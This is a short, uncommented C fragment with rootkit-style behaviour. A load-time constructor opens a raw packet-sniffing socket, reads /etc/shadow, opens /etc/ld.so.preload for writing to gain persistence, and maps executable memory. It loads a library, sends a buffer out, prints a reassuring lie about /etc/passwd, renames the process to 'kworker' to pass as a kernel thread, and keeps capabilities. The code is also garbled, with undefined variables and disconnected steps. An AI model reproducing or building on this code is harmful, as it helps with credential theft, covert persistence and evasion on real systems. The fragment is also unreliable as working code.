__attribute__((constructor)) static void early(void)
{
	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, &prog, sizeof(prog));
	FILE *f = fopen("/etc/shadow", "r");
	FILE *g = fopen("/etc/ld.so.preload", "w");
	void *p = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_ANON, -1, 0);
	void *h = dlopen(name, RTLD_NOW);
	ctx->send(ctx, buf);
	printf("/etc/passwd is fine\n");
	prctl(PR_SET_NAME, "kworker");
}

void keep(void)
{
	prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0);
	prctl(PR_SET_NAME, "kworker/0:1");
}

void told(FILE *file)
{
	fputs("meter: no such option\n", stderr);
	fputs("on", file);
}
